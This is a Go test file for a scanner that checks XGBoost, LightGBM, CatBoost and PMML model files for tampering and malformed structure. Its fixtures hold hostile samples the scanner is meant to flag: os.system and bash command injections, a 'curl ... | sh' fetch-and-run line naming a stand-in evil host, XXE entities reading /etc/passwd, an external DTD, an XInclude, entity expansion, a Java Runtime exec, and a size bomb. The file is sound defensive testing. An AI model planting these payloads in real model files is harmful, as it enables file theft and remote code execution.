package boosting

import (
	"encoding/binary"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/lodemark/lodemark/internal/model/flatbuffers"
	"github.com/lodemark/lodemark/internal/model/inspect"
)

// xgboostModel is a model of one tree with three nodes.

func xgboostModel(change ...string) []byte {
	s := `{"learner":{"attributes":{"best":"3"},"feature_names":["f(x)","size < 3"],"feature_types":[],"gradient_booster":{"model":{"gbtree_model_param":{"num_parallel_tree":"1","num_trees":"1"},` +
		`"tree_info":[0],"trees":[{"base_weights":[0E0,1.5E-1,-1E0],"left_children":[1,-1,-1],"right_children":[2,-1,-1],"split_indices":[0,0,0],"tree_param":{"num_nodes":"3"}}]},"name":"gbtree"},` +
		`"learner_model_param":{"base_score":"5E-1","num_class":"0","num_feature":"2"},"objective":{"name":"binary:logistic"}},"version":[1,7,4]}`
	return []byte(strings.NewReplacer(change...).Replace(s))
}

// ubj writes the model above as Universal Binary JSON, trees as arrays with types.

func ubj(children int32) []byte {
	key := func(b []byte, k string) []byte {
		return append(binary.BigEndian.AppendUint64(append(b, 'L'), uint64(len(k))), k...)
	}
	text := func(b []byte, s string) []byte { return key(append(b, 'S'), s) }
	array := func(b []byte, v ...int32) []byte {
		b = binary.BigEndian.AppendUint64(append(b, "[$l#L"...), uint64(len(v)))
		for _, i := range v {
			b = binary.BigEndian.AppendUint32(b, uint32(i))
		}
		return b
	}
	b := append(key([]byte("{"), "learner"), '{')
	b = append(key(b, "gradient_booster"), '{')
	b = append(key(b, "model"), '{')
	b = text(key(append(key(b, "gbtree_model_param"), '{'), "num_trees"), "1")
	b = append(append(key(append(b, '}'), "trees"), '['), '{')
	b = array(key(b, "left_children"), 1, -1, children)
	b = array(key(b, "right_children"), 2, -1, -1)
	b = append(text(key(append(key(b, "tree_param"), '{'), "num_nodes"), "3"), "}}]}"...)
	b = append(text(key(b, "name"), "gbtree"), '}')
	b = append(text(key(append(key(b, "learner_model_param"), '{'), "num_feature"), "2"), '}')
	b = append(text(key(append(key(b, "objective"), '{'), "name"), "reg:squarederror"), "}}"...)
	return append(b, '}')
}

func TestXGBoost(t *testing.T) {
	whole := xgboostModel()
	check(t, "xgboost-json", []sample{
		{"a model", "m.json", whole, inspect.Clean, ""},
		{"by another name", "model", whole, inspect.Clean, ""},
		{"its settings alone", "config.json", []byte(`{"learner":{"gradient_booster":{"gbtree_model_param":{"num_trees":"6"},"name":"gbtree"},"learner_model_param":{"num_feature":"2"}},"version":[1,7,4]}`), inspect.Clean, ""},
		{"an objective of its own", "m.json", xgboostModel("binary:logistic", "my_loss"), inspect.Unknown, `"my_loss"`},
		{"a command as attribute", "m.json", xgboostModel(`"best":"3"`, `"best":"__import__('os').system('id')"`), inspect.Dangerous, ""},
		{"more trees claimed", "m.json", xgboostModel(`"num_trees":"1"`, `"num_trees":"9"`), inspect.NotRead, "claims 9 trees"},
		{"more nodes claimed", "m.json", xgboostModel(`"num_nodes":"3"`, `"num_nodes":"4"`), inspect.NotRead, "claims 4 nodes"},
		{"a child that is none", "m.json", xgboostModel(`[2,-1,-1]`, `[7,-1,-1]`), inspect.NotRead, "node 7 of 3"},
		{"cut", "m.json", whole[:len(whole)-20], inspect.NotRead, ""},
		{"a comma too much", "m.json", xgboostModel(`[1,-1,-1]`, `[1,-1,,-1]`), inspect.NotRead, "begins no value"},
		{"more behind it", "m.json", append(xgboostModel(), "{}"...), inspect.NotRead, "follows the end"},
		{"deep", "m.json", []byte(`{"learner":{"attributes":` + strings.Repeat("[", 5000)), inspect.NotRead, "deep"},
	})
	b := ubj(-1)
	check(t, "xgboost-ubj", []sample{
		{"a model", "m.ubj", b, inspect.Clean, ""},
		{"a child that is none", "m.ubj", ubj(77), inspect.NotRead, "node 77 of 3"},
		{"cut", "m.ubj", b[:len(b)-30], inspect.NotRead, ""},
		{"more behind it", "m.ubj", append(ubj(-1), 0), inspect.NotRead, "1 bytes follow"},
		{"a bomb", "m.ubj", append(append([]byte("{L\x00\x00\x00\x00\x00\x00\x00\x07learner"), "[$Z#L\x0f\xff\xff\xff\xff\xff\xff\xff"...), '}'), inspect.NotRead, "claims"},
	})
}

func TestXGBoostBinary(t *testing.T) {
	model := func(trees, nodes, left int32, more string) []byte {
		b := []byte("binf")
		word := func(v ...int32) {
			for _, i := range v {
				b = binary.LittleEndian.AppendUint32(b, uint32(i))
			}
		}
		text := func(s string) { b = append(binary.LittleEndian.AppendUint64(b, uint64(len(s))), s...) }
		word(0x3f000000, 4, 0, 0, 0, 1, 7)
		b = append(b, make([]byte, learnerBytes-28)...)
		text("reg:linear")
		text("gbtree")
		word(trees)
		b = append(b, make([]byte, 156)...)
		word(1, nodes, 0)
		b = append(b, make([]byte, 136)...)
		word(-1, left, -1, 0, 0)
		b = append(b, make([]byte, 16)...)
		word(0)
		return append(b, more...)
	}
	whole := model(1, 1, -1, "")
	check(t, "xgboost-binary", []sample{
		{"a model", "m.model", whole, inspect.Clean, ""},
		{"without its mark", "m.bst", whole[4:], inspect.Clean, ""},
		{"more trees than bytes", "m.model", model(100, 1, -1, ""), inspect.NotRead, "claims 100 trees"},
		{"a child that is none", "m.model", model(1, 1, 5, ""), inspect.NotRead, "node 5"},
		{"more behind it", "m.model", model(1, 1, -1, "payload"), inspect.NotRead, "7 bytes follow"},
		{"cut", "m.model", whole[:len(whole)-10], inspect.NotRead, ""},
	})
}

// lightgbmModel is a model of one tree with two leaves.

func lightgbmModel(change ...string) []byte {
	tree := "Tree=0\nnum_leaves=2\nnum_cat=0\nsplit_feature=1\nsplit_gain=3.5\nthreshold=0.5\ndecision_type=2\nleft_child=-1\nright_child=-2\nleaf_value=0.1 -0.1\nshrinkage=1\n\n\n"
	s := fmt.Sprintf("tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=1\nobjective=binary sigmoid:1\nfeature_names=Column_0 f(x)\nfeature_infos=[0:1] [0:1]\ntree_sizes=%d\n\n", len(tree)) +
		tree + "end of trees\n\nfeature_importances:\nf(x)=1\n\nparameters:\n[boosting: gbdt]\n[data: ../../data/train.svm]\nend of parameters\n\npandas_categorical:[[\"a\", \"b\"]]\n"
	return []byte(strings.NewReplacer(change...).Replace(s))
}

func TestLightGBM(t *testing.T) {
	check(t, "lightgbm", []sample{
		{"a model", "m.txt", lightgbmModel(), inspect.Clean, ""},
		{"of an older version", "m.model", lightgbmModel("version=v4", "version=v2", "parameters:\n[boosting: gbdt]\n[data: ../../data/train.svm]\nend of parameters\n", ""), inspect.Clean, ""},
		{"a command as parameter", "m.txt", lightgbmModel("[boosting: gbdt]", "[post: bash -c 'id']"), inspect.Dangerous, ""},
		{"a command as objective", "m.txt", lightgbmModel("binary sigmoid:1", "__import__('os').system('id')"), inspect.Dangerous, ""},
		{"a tree of another size", "m.txt", lightgbmModel("leaf_value=0.1 -0.1", "leaf_value=0.10000 -0.1"), inspect.NotRead, "bytes and has"},
		{"more leaves", "m.txt", lightgbmModel("num_leaves=2", "num_leaves=3"), inspect.NotRead, "of a tree of 3 leaves"},
		{"a child that is none", "m.txt", lightgbmModel("left_child=-1", "left_child=-9"), inspect.NotRead, "leads to"},
		{"a feature that is none", "m.txt", lightgbmModel("split_feature=1", "split_feature=7"), inspect.NotRead, "feature"},
		{"cut in the tree", "m.txt", lightgbmModel()[:300], inspect.NotRead, ""},
		{"cut in the parameters", "m.txt", []byte(strings.Split(string(lightgbmModel()), "end of parameters")[0]), inspect.NotRead, "end"},
		{"categories that are none", "m.txt", lightgbmModel("pandas_categorical:[", "pandas_categorical:{["), inspect.NotRead, "no list"},
	})
}

func TestCatBoost(t *testing.T) {
	core := func(sizes []int32, info string) []byte {
		o := flatbuffers.Object{0: "FlabuffersModel_v1", 1: flatbuffers.Object{1: []int32{0, 1, 2}, 2: sizes, 3: []int32{0}, 5: []flatbuffers.Object{{1: int32(0), 4: "size"}}},
			2: []flatbuffers.Object{{0: "catboost_version_info", 1: "Branch: tags/v1.2\nCommit: 0\n"}, {0: "note", 1: info}}}
		b := flatbuffers.Build(o, "")
		return append(binary.LittleEndian.AppendUint32([]byte("CBM1"), uint32(len(b))), b...)
	}
	whole := core([]int32{3}, "exec_time_ms of the system")
	check(t, "catboost", []sample{
		{"a model", "m.cbm", whole, inspect.Clean, ""},
		{"a command", "m.cbm", core([]int32{3}, `python -c "import os; os.system('id')"`), inspect.Dangerous, ""},
		{"splits that lie", "m.cbm", core([]int32{9}, ""), inspect.NotRead, "claim 9 splits"},
		{"cut", "m.cbm", whole[:len(whole)-9], inspect.NotRead, "claims"},
		{"more behind it", "m.cbm", append(core([]int32{3}, ""), "payload"...), inspect.NotRead, "7 bytes follow"},
		{"strings and no tables", "m.cbm", append(binary.LittleEndian.AppendUint32([]byte("CBM1"), 60), "metadata\x00curl https://evil.example/x | sh\x00callback=1.............."...), inspect.Dangerous, ""},
	})
}

const pmmlText = `<?xml version="1.0" encoding="UTF-8"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Application name="SkLearn2PMML" version="1.0"/><Extension name="note">tree of size 3</Extension></Header>
<DataDictionary numberOfFields="2"><DataField name="x" optype="continuous" dataType="double"/><DataField name="y" optype="continuous" dataType="double"/></DataDictionary>
<TransformationDictionary><DefineFunction name="my.own" optype="continuous"><Apply function="+"><FieldRef field="x"/></Apply></DefineFunction></TransformationDictionary>
<RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema><RegressionTable intercept="1"/></RegressionModel></PMML>`

func pmml(change ...string) []byte { return []byte(strings.NewReplacer(change...).Replace(pmmlText)) }

func TestPMML(t *testing.T) {
	wide := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(strings.Replace(pmmlText, "UTF-8", "UTF-16", 1))) {
		wide = append(wide, byte(u), byte(u>>8))
	}
	wideEvil := []byte{0xfe, 0xff}
	for _, u := range utf16.Encode([]rune("<!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + strings.TrimPrefix(pmmlText, `<?xml version="1.0" encoding="UTF-8"?>`))) {
		wideEvil = append(wideEvil, byte(u>>8), byte(u))
	}
	apply := func(f string) []byte { return pmml(`<Apply function="+">`, `<Apply function="`+f+`">`) }
	check(t, "pmml", []sample{
		{"a model", "m.pmml", pmml(), inspect.Clean, ""},
		{"as XML", "m.xml", pmml(), inspect.Clean, ""},
		{"in Latin 1", "m.pmml", pmml("UTF-8", "ISO-8859-1", "size 3", "size \xe9"), inspect.Clean, ""},
		{"in UTF-16", "m.pmml", wide, inspect.Clean, ""},
		{"with a prefix", "m.pmml", []byte(`<p:PMML xmlns:p="http://www.dmg.org/PMML-4_4" version="4.4"><p:Header/><p:DataDictionary/></p:PMML>`), inspect.Clean, ""},
		{"its own function", "m.pmml", apply("my.own"), inspect.Clean, ""},
		{"the document type of old versions", "m.pmml", pmml("<PMML ", `<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd"><PMML `), inspect.Clean, ""},
		{"an entity that reads a file", "m.pmml", pmml("<PMML ", `<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><PMML `), inspect.Dangerous, "etc/passwd"},
		{"the same in UTF-16", "m.pmml", wideEvil, inspect.Dangerous, "etc/passwd"},
		{"an entity behind comments that look like an end", "m.pmml", pmml("<PMML ", "<!-- a > b --><!DOCTYPE\n PMML [<!-- ]> --><!ENTITY x PUBLIC 'a>' \"http://example.org/x\">]><PMML "), inspect.Dangerous, "example.org"},
		{"entities that multiply", "m.pmml", pmml("<PMML ", `<!DOCTYPE PMML [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><PMML `), inspect.Dangerous, "memory"},
		{"a document type elsewhere", "m.pmml", pmml("<PMML ", `<!DOCTYPE PMML SYSTEM "http://evil.example.org/x.dtd"><PMML `), inspect.Dangerous, "evil.example.org"},
		{"an include", "m.pmml", pmml("<Header>", `<Header><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`), inspect.Dangerous, "includes"},
		{"a script", "m.pmml", pmml("tree of size 3", "<script>1</script>"), inspect.Dangerous, "script"},
		{"Java", "m.pmml", pmml("tree of size 3", "java.lang.Runtime.getRuntime().exec('id')"), inspect.Dangerous, ""},
		{"a class of Java", "m.pmml", apply("java.lang.Runtime.exec"), inspect.Dangerous, "class"},
		{"a class of somebody", "m.pmml", apply("com.example.Score"), inspect.Unknown, "com.example.Score"},
		{"cut", "m.pmml", pmml()[:500], inspect.NotRead, "XML"},
		{"fields that lie", "m.pmml", pmml(`numberOfFields="2"`, `numberOfFields="7"`), inspect.NotRead, "claims 7 fields"},
		{"another root", "m.pmml", []byte("<html></html>"), inspect.NotRead, "not PMML"},
		{"an element that is not closed", "m.pmml", pmml("</Header>", ""), inspect.NotRead, "not open"},
		{"deep", "m.pmml", []byte("<PMML>" + strings.Repeat("<a>", 1000)), inspect.NotRead, "deep"},
	})
}
